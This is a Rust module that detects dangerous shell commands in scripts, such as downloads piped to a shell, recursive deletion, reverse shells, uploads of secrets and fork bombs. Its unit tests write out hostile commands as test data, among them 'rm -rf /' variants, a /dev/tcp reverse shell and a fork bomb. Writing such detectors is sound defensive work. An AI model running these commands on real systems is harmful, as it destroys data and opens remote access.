//! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
//!
//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
//! language. Policies call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.

mod effective_command;
mod syntax;

use std::collections::BTreeSet;
use std::ops::Range;

use super::MAX_FINDINGS;
use effective_command::{EffectiveCommand, INTERPRETERS, READERS, SHELLS};
use syntax::{Pipeline, ShellCommand, Word};

/// The severity of a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum IssueSeverity {
    /// Rarely needed, and often a step of an attack.
    Warning,
    /// Destroys data, opens access or sends data.
    Error,
}

impl IssueSeverity {
    /// Returns `warning` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Warning => "warning",
            Self::Error => "error",
        }
    }
}

/// An unsafe command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    /// The effect, such as `PIPE_TO_SHELL`.
    pub kind: &'static str,
    /// The bytes of the command or pipeline.
    pub span: Range<usize>,
    /// The severity.
    pub severity: IssueSeverity,
}

/// Substitutions and `bash -c` are followed to this depth.
const MAX_DEPTH: usize = 6;

/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`].
///
/// ```
/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
/// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
/// ```
pub fn find(text: &str) -> Vec<UnsafeCommand> {
    let mut finder = CommandScanner::default();
    // The script is the whole text, so it begins at byte 0, and no script encloses it.
    finder.scan_script(text, &ScriptLocation::From(0), 0);
    // The fork bomb defines a function named `:`, which the parser does not read as a command.
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        // An estimate: the white space is lost, and with it the exact position.
        let start = text.find(':').unwrap_or(0);
        finder.issues.push(UnsafeCommand {
            kind: "FORK_BOMB",
            span: start..text.len(),
            severity: IssueSeverity::Error,
        });
    }
    let mut issues = finder.issues;
    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
    issues.dedup();
    issues.truncate(MAX_FINDINGS);
    issues
}

/// The location of a script in the whole text.
#[derive(Clone)]
enum ScriptLocation {
    /// From this byte on.
    From(usize),
    /// Somewhere within these bytes: the quotes around it were removed, so positions in it do not correspond to the
    /// text.
    Within(Range<usize>),
}

impl ScriptLocation {
    /// Returns the bytes of the whole text that correspond to a range of the script, or that contain the whole script
    /// if positions in it correspond to none.
    fn locate(&self, range: Range<usize>) -> Range<usize> {
        match self {
            Self::From(offset) => range.start + offset..range.end + offset,
            Self::Within(whole) => whole.clone(),
        }
    }
}

/// Collects the unsafe commands of a script.
#[derive(Default)]
struct CommandScanner {
    issues: Vec<UnsafeCommand>,
    /// The names of the files into which earlier commands downloaded.
    fetched: BTreeSet<String>,
}

impl CommandScanner {
    /// Reports the unsafe commands of a script: commands that are unsafe alone, and combinations in a pipeline, such as
    /// a download that a shell executes. Scans nested scripts recursively (substitutions, and arguments that a shell
    /// executes). `location` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
    fn scan_script(&mut self, text: &str, location: &ScriptLocation, depth: usize) {
        for pipeline in syntax::read(text) {
            // More than are returned, since duplicates are removed later.
            if self.issues.len() > 2 * MAX_FINDINGS {
                return;
            }
            let mut report = |kind, span, severity| {
                self.issues.push(UnsafeCommand { kind, span: location.locate(span), severity });
            };
            let calls: Vec<EffectiveCommand<'_>> = pipeline.iter().map(EffectiveCommand::new).collect();
            // The scripts in the substitutions of a word.
            let substituted_scripts = |word: &Word| -> String {
                word.inner.iter().filter_map(|range| text.get(range.clone())).collect::<Vec<_>>().join("\n")
            };
            for (i, call) in calls.iter().enumerate() {
                call.report_effects(&mut |kind, severity| report(kind, call.command.span(), severity));
                let earlier = calls.get(..i).unwrap_or_default();
                let whole = || pipeline_span(&pipeline);
                if call.reads_script() {
                    if earlier.iter().any(EffectiveCommand::fetches) {
                        report("PIPE_TO_SHELL", whole(), IssueSeverity::Error);
                    }
                    if earlier.iter().any(EffectiveCommand::decodes) {
                        report("DECODE_TO_SHELL", whole(), IssueSeverity::Error);
                    }
                }
                if call.connects() {
                    if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
                        report("REVERSE_SHELL", whole(), IssueSeverity::Error);
                    }
                    if earlier.iter().any(|call| {
                        call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
                    }) {
                        report("UPLOAD", whole(), IssueSeverity::Error);
                    }
                }
                let substitutions: String =
                    call.words().map(&substituted_scripts).collect::<Vec<_>>().join("\n");
                // The commands in the substitutions of the arguments.
                let nested: Vec<Pipeline> =
                    if substitutions.is_empty() { Vec::new() } else { syntax::read(&substitutions) };
                let nested = || nested.iter().flatten().map(EffectiveCommand::new);
                let runs = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
                if runs
                    && (nested().any(|inner| inner.fetches())
                        || call.words().any(|w| self.fetched.contains(&w.text)))
                {
                    report("PIPE_TO_SHELL", call.command.span(), IssueSeverity::Error);
                }
                if call.fetches()
                    && nested().any(|inner| inner.is_one_of(READERS) || inner.dumps_environment())
                {
                    report("UPLOAD", call.command.span(), IssueSeverity::Error);
                }
            }
            // The files into which a command downloads; a later command may run one of them.
            for call in calls.iter().filter(|call| call.fetches()) {
                let redirected = call.command.redirects.iter().filter(|(op, _)| op.starts_with('>'));
                self.fetched.extend(redirected.map(|(_, word)| word.text.clone()));
                self.fetched
                    .extend(["-o", "-O", "--output"].iter().filter_map(|option| call.option_value(option)));
            }
            if depth < MAX_DEPTH {
                for call in &calls {
                    for range in call.every_word().flat_map(|word| &word.inner) {
                        let at = match location {
                            ScriptLocation::From(offset) => ScriptLocation::From(offset + range.start),
                            // The script is an argument whose offsets are not those of the text, so all of its parts
                            // have the span of the argument.
                            within => within.clone(),
                        };
                        self.scan_script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
                    }
                    if let Some((script, span)) = call.inner_script() {
                        self.scan_script(&script, &ScriptLocation::Within(location.locate(span)), depth + 1);
                    }
                }
            }
        }
    }
}

/// Returns the bytes from the first to the last command of a pipeline.
fn pipeline_span(pipeline: &[ShellCommand]) -> Range<usize> {
    let first = pipeline.first().map_or(0, |command| command.span().start);
    first..pipeline.last().map_or(first, |command| command.span().end)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_unsafe() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
        check(
            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
        );
        for wrapped in [
            "sudo --user root rm -rf /",
            "sudo --user=root --chdir /tmp rm -rf /",
            "timeout --signal KILL 5 rm -rf /",
            "stdbuf -o L rm -rf /",
            "env --unset HOME rm -rf /",
        ] {
            check(wrapped, &[("REMOVE_ALL", wrapped)]);
        }
        check("eval $x", &[("EVAL", "eval $x")]);
        check(
            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
        );
        check("echo 'rm -rf /' # eval $x", &[]);
        check("rm -rf target", &[]);
        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
    }

    #[test]
    fn depth_is_bounded() {
        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
        assert!(find(&deep).is_empty());
    }
}
